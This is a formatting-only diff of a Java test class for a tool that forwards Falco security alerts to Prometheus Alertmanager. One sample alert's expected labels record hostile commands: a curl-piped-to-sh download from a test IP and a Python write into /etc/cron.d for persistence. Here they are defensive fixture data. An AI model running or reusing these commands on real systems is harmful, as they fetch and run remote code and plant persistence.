@@ -5,8 +5,8 @@ import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import dev.peregrine.sidekick.alert.Alert;
 import dev.peregrine.sidekick.config.ConfigException;
-import jakarta.validation.Validation;
 import dev.peregrine.sidekick.testing.SampleAlerts;
+import jakarta.validation.Validation;
 import java.io.IOException;
 import java.net.InetAddress;
 import java.net.ServerSocket;
@@ -55,7 +55,6 @@ class AlertmanagerOutputTest {
     static Process alertmanager;
     static URI base;
 
-
     static Alert sample(int i) {
         return SampleAlerts.alert(i);
     }
@@ -63,8 +62,18 @@ class AlertmanagerOutputTest {
     /** The sample as if Falco had just sent it. */
     static Alert fresh(int i, Instant time) {
         Alert a = sample(i);
-        return new Alert(a.uuid(), time, a.rule(), a.priority(), a.source(), a.output(), a.outputFields(), a.tags(),
-                a.hostname(), a.message(), a.origin());
+        return new Alert(
+                a.uuid(),
+                time,
+                a.rule(),
+                a.priority(),
+                a.source(),
+                a.output(),
+                a.outputFields(),
+                a.tags(),
+                a.hostname(),
+                a.message(),
+                a.origin());
     }
 
     static int freePort() throws IOException {
@@ -76,8 +85,10 @@ class AlertmanagerOutputTest {
     @BeforeAll
     static void startAlertmanager() throws Exception {
         assertThat(Files.isExecutable(BINARY))
-                .as("%s is not installed: install the Debian package prometheus-alertmanager, e.g. with"
-                        + " scripts/setup-host.sh", BINARY)
+                .as(
+                        "%s is not installed: install the Debian package prometheus-alertmanager, e.g. with"
+                                + " scripts/setup-host.sh",
+                        BINARY)
                 .isTrue();
         Path config = dir.resolve("alertmanager.yml");
         Files.writeString(config, """
@@ -89,17 +100,20 @@ class AlertmanagerOutputTest {
         int port = freePort();
         base = URI.create("http://127.0.0.1:" + port);
         Path log = dir.resolve("alertmanager.log");
-        alertmanager = new ProcessBuilder(BINARY.toString(),
-                "--config.file=" + config,
-                "--storage.path=" + Files.createDirectories(dir.resolve("data")),
-                "--web.listen-address=127.0.0.1:" + port,
-                "--cluster.listen-address=")
-                .redirectErrorStream(true).redirectOutput(log.toFile()).start();
+        alertmanager = new ProcessBuilder(
+                        BINARY.toString(),
+                        "--config.file=" + config,
+                        "--storage.path=" + Files.createDirectories(dir.resolve("data")),
+                        "--web.listen-address=127.0.0.1:" + port,
+                        "--cluster.listen-address=")
+                .redirectErrorStream(true)
+                .redirectOutput(log.toFile())
+                .start();
         long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(20);
         while (true) {
             try {
-                HttpResponse<String> r = HTTP.send(HttpRequest.newBuilder(base.resolve("/-/ready")).build(),
-                        HttpResponse.BodyHandlers.ofString());
+                HttpResponse<String> r = HTTP.send(
+                        HttpRequest.newBuilder(base.resolve("/-/ready")).build(), HttpResponse.BodyHandlers.ofString());
                 if (r.statusCode() == 200) {
                     return;
                 }
@@ -126,7 +140,9 @@ class AlertmanagerOutputTest {
     /** The alerts Alertmanager holds with this rule label, read through its API. */
     static List<JsonNode> alertsOf(String rule) throws Exception {
         String filter = URLEncoder.encode("rule=\"" + rule + "\"", StandardCharsets.UTF_8);
-        HttpResponse<String> r = HTTP.send(HttpRequest.newBuilder(base.resolve("/api/v2/alerts?filter=" + filter)).build(),
+        HttpResponse<String> r = HTTP.send(
+                HttpRequest.newBuilder(base.resolve("/api/v2/alerts?filter=" + filter))
+                        .build(),
                 HttpResponse.BodyHandlers.ofString());
         assertThat(r.statusCode()).isEqualTo(200);
         List<JsonNode> alerts = new ArrayList<>();
@@ -140,14 +156,15 @@ class AlertmanagerOutputTest {
         return m;
     }
 
-    static AlertmanagerConfig config(List<String> fields, Duration expiry, Map<String, String> extraLabels,
-            Map<String, String> severity) {
-        return new AlertmanagerConfig(base, fields, expiry, extraLabels, Map.of(), severity, Map.of(),
-                Duration.ofSeconds(5), TlsConfig.NONE);
+    static AlertmanagerConfig config(
+            List<String> fields, Duration expiry, Map<String, String> extraLabels, Map<String, String> severity) {
+        return new AlertmanagerConfig(
+                base, fields, expiry, extraLabels, Map.of(), severity, Map.of(), Duration.ofSeconds(5), TlsConfig.NONE);
     }
 
     static AlertmanagerConfig defaults() {
-        return config(List.of("k8s.ns.name", "k8s.pod.name", "container.name"), Duration.ofMinutes(5), Map.of(), Map.of());
+        return config(
+                List.of("k8s.ns.name", "k8s.pod.name", "container.name"), Duration.ofMinutes(5), Map.of(), Map.of());
     }
 
     static void send(AlertmanagerConfig config, Alert alert) throws DeliveryException {
@@ -167,26 +184,29 @@ class AlertmanagerOutputTest {
         List<JsonNode> alerts = alertsOf("Contact K8S API Server From Container");
         assertThat(alerts).hasSize(1);
         JsonNode a = alerts.getFirst();
-        assertThat(map(a.get("labels"))).isEqualTo(Map.ofEntries(
-                Map.entry("source", "falco"),
-                Map.entry("rule", "Contact K8S API Server From Container"),
-                Map.entry("eventsource", "syscall"),
-                Map.entry("hostname", "gke-prod-pool-1-8f3a2c1d-q7lm"),
-                Map.entry("tags", "T1565,container,k8s,maturity_stable,mitre_discovery,network"),
-                Map.entry("priority", "Notice"),
-                Map.entry("severity", "information"),
-                Map.entry("k8s_ns_name", "payments"),
-                Map.entry("k8s_pod_name", "payments-api-5b7f9d9c8-4hzsw"),
-                Map.entry("container_name", "payments-api")));
-        assertThat(map(a.get("annotations"))).isEqualTo(Map.of(
-                "summary", "Contact K8S API Server From Container",
-                "description", alert.output(),
-                "info", alert.output(),
-                "uuid", alert.uuid()));
+        assertThat(map(a.get("labels")))
+                .isEqualTo(Map.ofEntries(
+                        Map.entry("source", "falco"),
+                        Map.entry("rule", "Contact K8S API Server From Container"),
+                        Map.entry("eventsource", "syscall"),
+                        Map.entry("hostname", "gke-prod-pool-1-8f3a2c1d-q7lm"),
+                        Map.entry("tags", "T1565,container,k8s,maturity_stable,mitre_discovery,network"),
+                        Map.entry("priority", "Notice"),
+                        Map.entry("severity", "information"),
+                        Map.entry("k8s_ns_name", "payments"),
+                        Map.entry("k8s_pod_name", "payments-api-5b7f9d9c8-4hzsw"),
+                        Map.entry("container_name", "payments-api")));
+        assertThat(map(a.get("annotations")))
+                .isEqualTo(Map.of(
+                        "summary", "Contact K8S API Server From Container",
+                        "description", alert.output(),
+                        "info", alert.output(),
+                        "uuid", alert.uuid()));
         assertThat(Instant.parse(a.get("startsAt").stringValue())).isEqualTo(time);
         // Alertmanager keeps milliseconds.
         assertThat(Instant.parse(a.get("endsAt").stringValue()))
-                .isBetween(before.plus(Duration.ofMinutes(5)).truncatedTo(ChronoUnit.MILLIS),
+                .isBetween(
+                        before.plus(Duration.ofMinutes(5)).truncatedTo(ChronoUnit.MILLIS),
                         after.plus(Duration.ofMinutes(5)));
         assertThat(a.get("status").get("state").stringValue()).isIn("active", "unprocessed");
     }
@@ -198,7 +218,8 @@ class AlertmanagerOutputTest {
         send(defaults(), alert);
 
         JsonNode a = alertsOf("Netcat Remote Code Execution in Container").getFirst();
-        assertThat(Instant.parse(a.get("startsAt").stringValue())).isEqualTo(alert.time().truncatedTo(ChronoUnit.MILLIS));
+        assertThat(Instant.parse(a.get("startsAt").stringValue()))
+                .isEqualTo(alert.time().truncatedTo(ChronoUnit.MILLIS));
         assertThat(Instant.parse(a.get("endsAt").stringValue()))
                 .isAfterOrEqualTo(before.plus(Duration.ofMinutes(5)).truncatedTo(ChronoUnit.MILLIS));
     }
@@ -206,37 +227,43 @@ class AlertmanagerOutputTest {
     @Test
     void everyFieldExtraLabelsAndSeverityMapAsInFalcosidekick() throws Exception {
         Alert alert = fresh(2, Instant.now());
-        send(config(List.of("*"), Duration.ofMinutes(10), Map.of("team", "secops", "source", "peregrine"),
-                Map.of("error", "page")), alert);
+        send(
+                config(
+                        List.of("*"),
+                        Duration.ofMinutes(10),
+                        Map.of("team", "secops", "source", "peregrine"),
+                        Map.of("error", "page")),
+                alert);
 
         JsonNode a = alertsOf("Write below etc").getFirst();
-        assertThat(map(a.get("labels"))).isEqualTo(Map.ofEntries(
-                Map.entry("source", "peregrine"), // extra-labels win
-                Map.entry("team", "secops"),
-                Map.entry("rule", "Write below etc"),
-                Map.entry("eventsource", "syscall"),
-                Map.entry("hostname", "bastion-01"),
-                Map.entry("tags", "T1098,container,filesystem,host,maturity_sandbox,mitre_persistence"),
-                Map.entry("priority", "Error"),
-                Map.entry("severity", "page"),
-                // Every field with a value; names made label names; empty and null values left out.
-                Map.entry("container_id", "host"),
-                Map.entry("container_name", "host"),
-                Map.entry("evt_time_iso8601", "1763632931734400921"),
-                Map.entry("evt_type", "openat"),
-                Map.entry("fd_name", "/etc/cron.d/sysupdate"),
-                Map.entry("proc_aname_2", "sh"),
-                Map.entry("proc_aname_3", "sshd"),
-                Map.entry("proc_aname_4", "sshd"),
-                Map.entry("proc_cmdline", "python3 -c open('/etc/cron.d/sysupdate','w').write(payload)"),
-                Map.entry("proc_exepath", "/usr/bin/python3.11"),
-                Map.entry("proc_name", "python3"),
-                Map.entry("proc_pcmdline", "sh -c curl -fsSL http://198.51.100.7/i.sh | sh"),
-                Map.entry("proc_pname", "sh"),
-                Map.entry("proc_tty", "34817"),
-                Map.entry("user_loginuid", "1001"),
-                Map.entry("user_name", "root"),
-                Map.entry("user_uid", "0")));
+        assertThat(map(a.get("labels")))
+                .isEqualTo(Map.ofEntries(
+                        Map.entry("source", "peregrine"), // extra-labels win
+                        Map.entry("team", "secops"),
+                        Map.entry("rule", "Write below etc"),
+                        Map.entry("eventsource", "syscall"),
+                        Map.entry("hostname", "bastion-01"),
+                        Map.entry("tags", "T1098,container,filesystem,host,maturity_sandbox,mitre_persistence"),
+                        Map.entry("priority", "Error"),
+                        Map.entry("severity", "page"),
+                        // Every field with a value; names made label names; empty and null values left out.
+                        Map.entry("container_id", "host"),
+                        Map.entry("container_name", "host"),
+                        Map.entry("evt_time_iso8601", "1763632931734400921"),
+                        Map.entry("evt_type", "openat"),
+                        Map.entry("fd_name", "/etc/cron.d/sysupdate"),
+                        Map.entry("proc_aname_2", "sh"),
+                        Map.entry("proc_aname_3", "sshd"),
+                        Map.entry("proc_aname_4", "sshd"),
+                        Map.entry("proc_cmdline", "python3 -c open('/etc/cron.d/sysupdate','w').write(payload)"),
+                        Map.entry("proc_exepath", "/usr/bin/python3.11"),
+                        Map.entry("proc_name", "python3"),
+                        Map.entry("proc_pcmdline", "sh -c curl -fsSL http://198.51.100.7/i.sh | sh"),
+                        Map.entry("proc_pname", "sh"),
+                        Map.entry("proc_tty", "34817"),
+                        Map.entry("user_loginuid", "1001"),
+                        Map.entry("user_name", "root"),
+                        Map.entry("user_uid", "0")));
     }
 
     @Test
@@ -250,26 +277,36 @@ class AlertmanagerOutputTest {
 
         List<JsonNode> alerts = alertsOf("Clear Log Activities");
         assertThat(alerts).hasSize(1);
-        assertThat(alerts.getFirst().get("annotations").get("uuid").stringValue()).isEqualTo(second.uuid());
+        assertThat(alerts.getFirst().get("annotations").get("uuid").stringValue())
+                .isEqualTo(second.uuid());
     }
 
     @Test
     void alertmanagerDownIsRetryable() throws Exception {
         URI down = URI.create("http://127.0.0.1:" + freePort());
-        AlertmanagerConfig config = new AlertmanagerConfig(down, List.of(), Duration.ofMinutes(5), Map.of(), Map.of(),
-                Map.of(), Map.of(), Duration.ofSeconds(2), TlsConfig.NONE);
+        AlertmanagerConfig config = new AlertmanagerConfig(
+                down,
+                List.of(),
+                Duration.ofMinutes(5),
+                Map.of(),
+                Map.of(),
+                Map.of(),
+                Map.of(),
+                Duration.ofSeconds(2),
+                TlsConfig.NONE);
 
-        assertThatThrownBy(() -> send(config, sample(0)))
-                .isInstanceOfSatisfying(DeliveryException.class, e -> {
-                    assertThat(e.retryable()).isTrue();
-                    assertThat(e.getMessage()).startsWith("POST " + down + "/api/v2/alerts: HttpHostConnectException")
-                            .contains("Connection refused");
-                });
+        assertThatThrownBy(() -> send(config, sample(0))).isInstanceOfSatisfying(DeliveryException.class, e -> {
+            assertThat(e.retryable()).isTrue();
+            assertThat(e.getMessage())
+                    .startsWith("POST " + down + "/api/v2/alerts: HttpHostConnectException")
+                    .contains("Connection refused");
+        });
     }
 
     @Test
     void payloadIsAOneAlertListWithoutEndsAtWhenExpiryIsZero() {
-        AlertmanagerOutput out = (AlertmanagerOutput) config(List.of(), Duration.ZERO, Map.of(), Map.of()).create(CONTEXT);
+        AlertmanagerOutput out = (AlertmanagerOutput)
+                config(List.of(), Duration.ZERO, Map.of(), Map.of()).create(CONTEXT);
         Alert alert = sample(11);
 
         JsonNode payload = out.payload(alert, Instant.now());
@@ -283,34 +320,49 @@ class AlertmanagerOutputTest {
 
     @ParameterizedTest
     @CsvSource({
-            "http://am:9093,                     http://am:9093/api/v2/alerts",
-            "http://am:9093/,                    http://am:9093/api/v2/alerts",
-            "https://proxy/alertmanager,         https://proxy/alertmanager/api/v2/alerts",
-            "http://am:9093/api/v2/alerts,       http://am:9093/api/v2/alerts"})
+        "http://am:9093,                     http://am:9093/api/v2/alerts",
+        "http://am:9093/,                    http://am:9093/api/v2/alerts",
+        "https://proxy/alertmanager,         https://proxy/alertmanager/api/v2/alerts",
+        "http://am:9093/api/v2/alerts,       http://am:9093/api/v2/alerts"
+    })
     void theV2EndpointIsAddedToTheBaseUrl(String url, String endpoint) {
-        assertThat(new AlertmanagerConfig(URI.create(url), List.of(), Duration.ZERO, Map.of(), Map.of(), Map.of(),
-                Map.of(), Duration.ofSeconds(1), TlsConfig.NONE).endpoint()).isEqualTo(URI.create(endpoint));
+        assertThat(new AlertmanagerConfig(
+                                URI.create(url),
+                                List.of(),
+                                Duration.ZERO,
+                                Map.of(),
+                                Map.of(),
+                                Map.of(),
+                                Map.of(),
+                                Duration.ofSeconds(1),
+                                TlsConfig.NONE)
+                        .endpoint())
+                .isEqualTo(URI.create(endpoint));
     }
 
     @Test
     void labelNamesAreMadeFromFieldNamesAsFalcosidekickDoes() {
         assertThat(AlertmanagerOutput.labelName("k8s.ns.name")).isEqualTo("k8s_ns_name");
         assertThat(AlertmanagerOutput.labelName("proc.aname[2]")).isEqualTo("proc_aname_2");
-        assertThat(AlertmanagerOutput.labelName("ka.req.pod.containers.image")).isEqualTo("ka_req_pod_containers_image");
+        assertThat(AlertmanagerOutput.labelName("ka.req.pod.containers.image"))
+                .isEqualTo("ka_req_pod_containers_image");
         assertThat(AlertmanagerOutput.labelName("2fa.user")).isEqualTo("_2fa_user");
     }
 
     // --- configuration errors, through the binder as at startup.
 
     @ParameterizedTest
-    @CsvSource(delimiter = ';', value = {
-            "url ; am:9093 ; peregrine.outputs.am.url: must be an http or https URL, got 'am:9093'",
-            "url ; http://am:9093/api/v1/alerts ; peregrine.outputs.am.url: Alertmanager's v1 API is gone",
-            "extra-labels.team-name ; secops ; peregrine.outputs.am.extra-labels.team-name: not a label name",
-            "severity.loud ; page ; peregrine.outputs.am.severity.loud: unknown priority 'loud'",
-            "output-fields[1] ; ... ; peregrine.outputs.am.output-fields[1]: not an output field name: '...'",
-            "expires-after ; -5 ; peregrine.outputs.am.expires-after: must not be negative",
-            "headers.Host ; am ; peregrine.outputs.am.headers.Host: this header is set by the HTTP client"})
+    @CsvSource(
+            delimiter = ';',
+            value = {
+                "url ; am:9093 ; peregrine.outputs.am.url: must be an http or https URL, got 'am:9093'",
+                "url ; http://am:9093/api/v1/alerts ; peregrine.outputs.am.url: Alertmanager's v1 API is gone",
+                "extra-labels.team-name ; secops ; peregrine.outputs.am.extra-labels.team-name: not a label name",
+                "severity.loud ; page ; peregrine.outputs.am.severity.loud: unknown priority 'loud'",
+                "output-fields[1] ; ... ; peregrine.outputs.am.output-fields[1]: not an output field name: '...'",
+                "expires-after ; -5 ; peregrine.outputs.am.expires-after: must not be negative",
+                "headers.Host ; am ; peregrine.outputs.am.headers.Host: this header is set by the HTTP client"
+            })
     void unusableSettingsStopStartupNamingTheKey(String key, String value, String expected) {
         Map<String, Object> props = new LinkedHashMap<>(Map.of(
                 "peregrine.outputs.am.type", "alertmanager",
@@ -320,8 +372,9 @@ class AlertmanagerOutputTest {
         ConfiguredOutput configured = bind(props).getFirst();
 
         assertThatThrownBy(() -> configured.config().create(CONTEXT))
-                .isInstanceOfSatisfying(ConfigException.class, e -> assertThat(e.problems()).singleElement()
-                        .asString().startsWith(expected));
+                .isInstanceOfSatisfying(
+                        ConfigException.class,
+                        e -> assertThat(e.problems()).singleElement().asString().startsWith(expected));
     }
 
     @Test
@@ -332,15 +385,24 @@ class AlertmanagerOutputTest {
                 "peregrine.outputs.am.expires-after", "600",
                 "peregrine.outputs.am.extra-labels.team", "secops"));
 
-        assertThat(outputs).singleElement().extracting(ConfiguredOutput::config).isEqualTo(new AlertmanagerConfig(
-                URI.create("http://am:9093"), List.of("k8s.ns.name", "k8s.pod.name", "container.name"),
-                Duration.ofMinutes(10), Map.of("team", "secops"), Map.of(), Map.of(), Map.of(), Duration.ofSeconds(10),
-                new TlsConfig(null, null, null)));
+        assertThat(outputs)
+                .singleElement()
+                .extracting(ConfiguredOutput::config)
+                .isEqualTo(new AlertmanagerConfig(
+                        URI.create("http://am:9093"),
+                        List.of("k8s.ns.name", "k8s.pod.name", "container.name"),
+                        Duration.ofMinutes(10),
+                        Map.of("team", "secops"),
+                        Map.of(),
+                        Map.of(),
+                        Map.of(),
+                        Duration.ofSeconds(10),
+                        new TlsConfig(null, null, null)));
     }
 
     /** Built once: the classpath scan and the validator take a while. */
-    static final OutputsBinder BINDER = new OutputsBinder(OutputCatalog.scan(),
-            Validation.buildDefaultValidatorFactory().getValidator());
+    static final OutputsBinder BINDER = new OutputsBinder(
+            OutputCatalog.scan(), Validation.buildDefaultValidatorFactory().getValidator());
 
     static List<ConfiguredOutput> bind(Map<String, Object> properties) {
         StandardEnvironment env = new StandardEnvironment();
